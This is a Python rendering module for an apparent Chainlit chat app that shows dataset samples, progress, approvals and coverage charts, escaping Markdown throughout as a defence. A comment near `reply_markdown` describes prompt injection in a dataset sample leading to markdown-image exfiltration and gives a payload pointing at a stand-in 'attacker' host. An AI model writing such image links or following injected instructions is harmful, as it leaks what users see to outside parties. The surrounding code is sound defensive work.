"""What the chat app shows, as plain text and figures: samples, progress lines, approvals, charts.

Pure functions (no Chainlit here), so they read top to bottom and are easy to check on their own;
ui/views.py, ui/turn.py and ui/output.py put their output into Chainlit messages, steps and elements.
"""

from __future__ import annotations

import json
import re
from typing import Any

from goalcover.tools.core.plans import cost_text

SAMPLE_CHARS = 1_500  # of one field of a sample shown in the chat; the rest is summarised
STEP_CHARS = 3_000  # of a tool's output shown in its step

TOOL_LABELS = {
    "ingest": "Ingesting",
    "propose_subgoals": "Proposing subgoals",
    "run_scoring": "Scoring",
    "find_gaps": "Finding gaps",
    "synthesize_samples": "Generating samples",
}

_CODE_LINE = re.compile(
    r"^\s*(def |class |import |from \S+ import |return\b|for .+:\s*$|if .+:\s*$|while .+:\s*$|#include|public |function |const |let |SELECT )",
    re.MULTILINE,
)


# --- samples ----------------------------------------------------------------------------------------

def looks_like_code(text: str) -> bool:
    """Whether `text` reads as code (code-like lines or many indented lines), to show it in a code block."""
    lines = text.splitlines()
    if len(lines) < 2:
        return False
    indented = sum(1 for line in lines if line.startswith(("    ", "\t")))
    return bool(_CODE_LINE.search(text)) or indented >= max(2, len(lines) // 3)


# Markdown from the data is shown, never acted on (issue 27 F13): an image `![](url)` would make every
# viewer's browser fetch the URL, a link or a bare URL (GFM autolinks) would invite a click. Chainlit
# renders no HTML (config: unsafe_allow_html = false); the rest is escaped here.
_MD_ACTIVE = re.compile(r"([\\`*_\[\]<>!#|~&])")
_AUTOLINK = re.compile(r"(?i)\b(https?|ftps?|mailto|file|data|www)([:.])|@")
WORD_JOINER = "\u2060"  # invisible, and it stops a GFM autolink (`https://`, `www.`, `a@b.c`) from forming


def inert_markdown(text: Any) -> str:
    """`text` (from the data or a model) shown as written in Chainlit's Markdown: every character that
    Markdown acts on is backslash-escaped (so no image, link, emphasis or HTML), and URL schemes, `www.`
    and `@` get an invisible word joiner, so no autolink forms. Newlines are kept."""
    return _break_autolinks(_MD_ACTIVE.sub(r"\\\1", "" if text is None else str(text)))


def _break_autolinks(text: str) -> str:
    """`text` with an invisible word joiner after each URL scheme, `www` and `@`, so no GFM autolink forms."""
    return _AUTOLINK.sub(lambda m: (m.group(1) + WORD_JOINER + m.group(2)) if m.group(1) else "@" + WORD_JOINER, text)


def fenced(text: str, lang: str = "") -> str:
    """`text` in a fenced code block whose fence is longer than any run of backticks inside it, so the
    text cannot close it (nothing in a code block is rendered: no images, no links)."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{lang}\n{text}\n{fence}"


def code_span(text: Any) -> str:
    """`text` (an id) as inline code, which renders nothing inside it; escaped prose when it holds a
    backtick or a line break, which could end the span."""
    text = "" if text is None else str(text)
    return f"`{text}`" if text and not re.search(r"[`\r\n]", text) else inert_markdown(text)


# A sample id made only of these characters builds no Markdown (no link, image, HTML or code), so it can stay
# plain, where Chainlit links it to the sample's side element by name.
_PLAIN_ID = re.compile(r"(?!.*(?i:www\.|://))[A-Za-z0-9.:/+=_-]+")


def linkable_id(sample_id: Any) -> str:
    """A sample id as written, where it is plain (so the app can link it to its sample), else as inline code."""
    text = "" if sample_id is None else str(sample_id)
    return text if _PLAIN_ID.fullmatch(text) else code_span(text)


def inert_markdown_keeping(text: Any, ids: list[str]) -> str:
    """`inert_markdown(text)`, except that the plain sample ids among `ids` stay as written, so the app can
    link them to their samples (linkable_id's rule: such an id builds no Markdown)."""
    keep = sorted({i for i in ids if _PLAIN_ID.fullmatch(i)}, key=len, reverse=True)
    if not keep:
        return inert_markdown(text)
    parts = re.split("(" + "|".join(map(re.escape, keep)) + ")", "" if text is None else str(text))
    return "".join(part if i % 2 else inert_markdown(part) for i, part in enumerate(parts))


# The agent's reply keeps its Markdown (emphasis, lists, headers, tables, code) but builds no image, link
# or autolink: a sample the model read can tell it to write `![](https://attacker/?q=<what it saw>)`, and
# the browser would fetch it (the markdown-image exfiltration of LLM chat apps). Outside code, `\`, `[`,
# `]` and `<` are escaped; code (fenced blocks from a line's start, one-line spans) renders nothing anyway.
# Whatever this takes for prose is escaped, the safe side of a doubt; a span it takes for code after a
# backslash stays code, as that backslash is itself escaped.
_REPLY_CODE = re.compile(r"(^ {0,3}(`{3,}|~{3,})[^\n]*(?:\n.*?)?(?:\n {0,3}\2[ \t]*(?=\n|\Z)|\Z)|(?<!`)(`+)(?!`)[^\n]+?(?<!`)\3(?!`))",
                         re.MULTILINE | re.DOTALL)
_REPLY_ACTIVE = re.compile(r"([\\\[\]<])")


def reply_markdown(text: Any) -> str:
    """The agent's reply (model text) as Markdown that formats but fetches and links nothing: `[`, `]`, `<`
    and `\\` are escaped outside code, and URL schemes, `www.` and `@` get an invisible word joiner."""
    text = "" if text is None else str(text)
    out, end = [], 0
    for code in _REPLY_CODE.finditer(text):
        out += [_reply_prose(text[end:code.start()]), code.group()]
        end = code.end()
    return "".join(out) + _reply_prose(text[end:])


def stream_markdown(before: str, piece: str) -> str:
    """What to append to a streamed reply when `piece` follows the raw text `before`: the new end of the
    whole text made inert as prose (the escapes and word joiners only ever add after what was sent, so a
    URL split over two pieces still gets its joiner). Code may show a backslash until `reply_markdown`
    of the whole reply replaces the stream."""
    return _reply_prose(before + piece)[len(_reply_prose(before)):]


def _reply_prose(text: str) -> str:
    return _break_autolinks(_REPLY_ACTIVE.sub(r"\\\1", text))


def _clip(text: str, limit: int = SAMPLE_CHARS) -> str:
    if len(text) <= limit:
        return text
    return text[:limit] + f"\n… ({len(text) - limit:,} more characters)"


def block(text: Any) -> str:
    """One field of a sample: code (or text with backticks) in a fenced block, prose escaped by
    `inert_markdown`, so the sample shows as written and nothing in it is fetched or linked."""
    if text is None:
        return "_(empty)_"
    if not isinstance(text, str):
        text = json.dumps(text, ensure_ascii=False, indent=1)
    text = _clip(text.strip())
    if not text:
        return "_(empty)_"
    if "```" in text:
        return fenced(text)
    if looks_like_code(text):
        # A named language: an unnamed fence is titled "Raw code" by the app.
        language = ("python" if re.search(r"^\s*(def |import |class )", text, re.MULTILINE)
                    else "json" if text[:1] in "{[" else "text")
        return fenced(text, language)
    return inert_markdown(text)


def _content(content: Any) -> str:
    if isinstance(content, list):  # OpenAI content parts
        return "\n".join(str(p.get("text", "")) if isinstance(p, dict) else str(p) for p in content)
    return "" if content is None else str(content)


def field(label: str, value: Any) -> str:
    """`**label:** text` for one paragraph of prose; the label on its own line above code or longer text."""
    shown, label = block(value), inert_markdown(label)
    if "\n" in shown:
        return f"**{label}**\n\n{shown}"
    return f"**{label}:** {shown}"


def sample_markdown(record: dict, shape: str, text: str = "") -> str:
    """A sample as a reader wants it: chat turns as turns, instruction and answer apart, code as code."""
    if shape == "alpaca":
        parts = [field("Instruction", record.get("instruction"))]
        if record.get("input"):
            parts.append(field("Input", record.get("input")))
        parts.append(field("Output", record.get("output")))
        return "\n\n".join(parts)
    if shape == "messages":
        turns = record.get("messages") or []
        return "\n\n".join(field(str(t.get("role", "?")), _content(t.get("content"))) for t in turns if isinstance(t, dict))
    if shape == "sharegpt":
        turns = record.get("conversations") or []
        return "\n\n".join(field(str(t.get("from", "?")), t.get("value")) for t in turns if isinstance(t, dict))
    if shape == "prompt-completion":
        return field("Prompt", record.get("prompt")) + "\n\n" + field("Completion", record.get("completion"))
    return block(record.get("text", text))


# --- progress, approvals, steps ---------------------------------------------------------------------

def duration(seconds: float) -> str:
    """Seconds as m:ss, or h:mm:ss from an hour."""
    seconds = max(0, int(round(seconds)))
    hours, rest = divmod(seconds, 3600)
    return f"{hours}:{rest // 60:02d}:{rest % 60:02d}" if hours else f"{rest // 60}:{rest % 60:02d}"


def progress_text(tool: str, done: int | None, total: int | None, fields: dict) -> str:
    """One progress line from the engine's progress info (counts, cost, tokens, failures, its ETA)."""
    label = TOOL_LABELS.get(tool, tool.replace("_", " ").capitalize())
    if done is None:
        return f"**{label}**: {fields.get('stage', 'working')}…"
    if total is None:  # a stream of unknown length (ingest reads in chunks)
        return f"**{label}**: {done:,} {fields.get('unit', 'done')}…"
    share = done / total if total else 1.0
    parts = [f"**{label}**: {done:,}/{total:,} ({share:.0%})"]
    eta = fields.get("eta_s")
    if done < total and isinstance(eta, (int, float)):
        parts.append(f"ETA {duration(eta)}")
    if "cost" in fields:
        parts.append(f"cost {fields['cost']}")
    if "tokens" in fields:
        parts.append(f"{fields['tokens']} tokens")
    if fields.get("failed"):
        parts.append(f"{fields['failed']} failed")
    return " · ".join(parts)


def approval_markdown(tool: str, question: str, plan: dict | None, priced: bool = True) -> str:
    """The agent's approval interrupt (scoring or synthesis it is about to run)."""

    lines = [f"**Approve {tool.replace('_', ' ')}?**", "", question]
    plan = plan or {}
    if plan.get("rows"):  # the engine's PaidPlan (tools/core/plans.py), as the buttons show it
        lines += ["", "| | |", "|---|---:|", *[f"| {k} | {v} |" for k, v in plan["rows"]], "", f"**Estimated cost:** {plan.get('cost', '')}"]
    elif "est_cost" in plan:  # an approval left open by an older version
        lines += [
            "",
            "| samples | subgoals | to score | already scored | model calls | est. tokens | est. cost |",
            "|---:|---:|---:|---:|---:|---:|---:|",
            f"| {plan.get('samples')} | {plan.get('subgoals')} | {plan.get('to_score')} | {plan.get('cached')} | "
            f"{plan.get('calls')} | {plan.get('est_prompt_tokens', 0) + plan.get('est_completion_tokens', 0):,} | "
            f"{cost_text(plan.get('est_cost'), priced, str(plan.get('model', '')))} |",
        ]
    elif plan:
        lines += ["", " · ".join(f"{k.replace('_', ' ')}: {v}" for k, v in plan.items())]
    return "\n".join(lines)


def step_output(summary: str, display: list[str]) -> str:
    """A tool step's shown text: the summary and display lines, cut at STEP_CHARS."""
    text = summary + ("\n\n" + "\n".join(display) if display else "")
    return text if len(text) <= STEP_CHARS else text[:STEP_CHARS] + " …"


def tool_result_text(content: str) -> str:
    """A stored tool message without its delimiters, for replaying a conversation."""
    match = re.search(r"<data>\n(.*)\n</data>", content, re.DOTALL)
    body = match.group(1) if match else content
    return body if len(body) <= STEP_CHARS else body[:STEP_CHARS] + " …"


def draft_markdown(lines: list[str], approved: bool = False) -> str:
    """Draft (or saved) subgoals as a Markdown list, with how to ask for changes while a draft; the model
    wrote them, so they build no image or link (`reply_markdown`)."""
    head = "**Subgoals** (saved)" if approved else "**Draft subgoals** (not saved yet)"
    body = "\n".join(f"- {reply_markdown(line)}" for line in lines)
    tail = "" if approved else "\n\nAsk for changes in your words (\"merge S2 and S3\", \"S4 is too vague\"), or approve them."
    return f"{head}\n\n{body}{tail}"


def gaps_markdown(gaps) -> str:
    """The gaps as a Markdown list ("No gaps" when none)."""
    if not gaps:
        return "No gaps: no subgoal is weak."
    lines = ["**Gaps** in the weak subgoals:", ""]
    for g in gaps:
        lines.append(f"- **{g.id}** ({g.subgoal_id}) {inert_markdown(g.label)} — {g.size} samples. {inert_markdown(g.description)}")
    return "\n".join(lines)


# --- charts -----------------------------------------------------------------------------------------

def gap_figure(gaps):
    """A Plotly bar chart of the gaps' sizes."""
    import plotly.graph_objects as go

    fig = go.Figure(
        go.Bar(
            x=[g.size for g in gaps],
            y=[f"{g.id} ({g.subgoal_id}) {g.label}" for g in gaps],
            orientation="h",
            marker_color="#d62728",
            text=[str(g.size) for g in gaps],
        )
    )
    fig.update_layout(
        title="Gap sizes (low-scoring samples in each gap)",
        xaxis_title="samples",
        yaxis={"autorange": "reversed"},
        template="plotly_white",
        height=160 + 40 * len(gaps),
    )
    return fig


# --- the "why" answer and the workspace's state ---------------------------------------------------------

def _share(value: float) -> str:
    return f"{100 * value:.1f}%"


def why_markdown(subgoal_id: str, answer: str, facts: dict, rule: str = "") -> str:
    """The answer's prose, then the facts it stands on: the subgoal's share against the others, its gaps
    with counts, and quoted judge explanations with their sample ids (plain, so that the app links each to
    its sample). `rule` is the weak rule that applied, with its numbers (tools/measure/weak_rule.py), shown first."""
    sub, cov = facts.get("subgoal", {}), facts.get("coverage", {})
    lines = [f"**Why is {subgoal_id} ({sub.get('title', '')}) {'weak' if cov.get('weak') else 'covered as it is'}?**", ""]
    if rule:
        lines += [f"_{inert_markdown(rule)}_", ""]
    lines += [inert_markdown_keeping(answer, why_sample_ids(facts, limit=10_000)), ""]
    lines += ["**Its share against the other subgoals**", "", "| subgoal | supporting | share |", "|---|---:|---:|"]
    rows = [{"id": subgoal_id, "title": sub.get("title", ""), "supporting": cov.get("supporting"), "share_pct": cov.get("share_pct")}]
    rows += facts.get("other_subgoals", [])
    for row in sorted(rows, key=lambda r: r["id"]):
        mark = "**" if row["id"] == subgoal_id else ""
        lines.append(f"| {mark}{row['id']} {row['title']}{mark} | {row['supporting']} | {row['share_pct']} |")
    median = facts.get("other_subgoals_median_share_pct")
    if median:
        lines += ["", f"{subgoal_id}: {cov.get('share_pct')} of {facts.get('samples')} samples score ≥ {facts.get('support_threshold')}; "
                      f"the median of the other subgoals is {median}."]
    gaps = facts.get("gaps", [])
    if gaps:
        lines += ["", "**Its gaps**"]
        for gap in gaps:
            lines += ["", f"- **{gap['id']}** {inert_markdown(gap['label'])}: **{gap['size']}** samples. {inert_markdown(gap.get('description', ''))}"]
            if gap.get("what_would_close_it"):
                lines.append(f"  What would close it: {inert_markdown(gap['what_would_close_it'])}")
            for ex in gap.get("examples", []):
                lines.append(f"  > {linkable_id(ex['sample_id'])} (score {ex['score']}): “{inert_markdown(ex['explanation'])}”")
    elif facts.get("gaps_note"):  # the engine says why no gap is listed
        lines += ["", facts["gaps_note"]]
    elif cov.get("weak"):
        lines += ["", "No gaps are stored for it yet: find gaps to see what its low-scoring samples lack."]
    best = facts.get("best_supporting_samples", [])
    if best:
        lines += ["", "**Its best supporting samples**"]
        lines += [f"> {linkable_id(ex['sample_id'])} (score {ex['score']}): “{inert_markdown(ex['explanation'])}”" for ex in best]
    return "\n".join(lines)


def why_sample_ids(facts: dict, limit: int = 16) -> list[str]:
    """The sample ids the answer quotes, in order, each once: the app offers each as a button."""
    ids: list[str] = []
    for ex in [e for g in facts.get("gaps", []) for e in g.get("examples", [])] + facts.get("best_supporting_samples", []):
        if ex["sample_id"] not in ids:
            ids.append(ex["sample_id"])
    return ids[:limit]


def status_markdown(info: dict, goal, draft: list | None, synthetic: dict[str, int], exports: list[str]) -> str:
    """Where the workspace stands now, recomputed from it (what a reopened page shows after the history)."""
    lines = ["**Where you are now** (from the workspace):", ""]
    if info.get("samples"):
        files = ", ".join(s["path"].rsplit("/", 1)[-1] for s in info.get("sources", []))
        lines.append(f"- Dataset: **{info['samples']}** samples ({info.get('format')}) from {files}.")
    else:
        lines.append("- Dataset: none yet. Upload one (the paperclip, or drag a file into the chat).")
    if goal is not None:
        lines.append(f"- Goal: {reply_markdown(goal.text)} ({len(goal.subgoals)} approved subgoals: {', '.join(s.id for s in goal.subgoals)}).")
    if draft:
        lines.append(f"- Draft subgoals waiting for approval: {len(draft)}.")
    if any(synthetic.values()):
        lines.append(
            f"- Synthetic samples: {synthetic.get('proposed', 0)} waiting for review, {synthetic.get('accepted', 0)} accepted, "
            f"{synthetic.get('rejected', 0)} rejected."
        )
    if exports:
        lines.append(f"- Exports: {', '.join(exports)}.")
    return "\n".join(lines)


def why_figure(subgoal_id: str, facts: dict):
    """The subgoal's share of supporting samples beside the other subgoals' (the why answer's first fact)."""
    import plotly.graph_objects as go

    cov = facts.get("coverage", {})
    rows = [(subgoal_id, float(str(cov.get("share_pct", "0")).rstrip("%") or 0))]
    rows += [(o["id"], float(str(o["share_pct"]).rstrip("%") or 0)) for o in facts.get("other_subgoals", [])]
    rows.sort()
    fig = go.Figure(go.Bar(
        x=[r[0] for r in rows], y=[r[1] for r in rows], text=[f"{r[1]:.1f}%" for r in rows],
        marker_color=["#d62728" if r[0] == subgoal_id else "#9ca3af" for r in rows],
    ))
    fig.update_layout(title=f"{subgoal_id} against the other subgoals: % of samples supporting each",
                      yaxis_title="% of samples", template="plotly_white", height=320)
    return fig
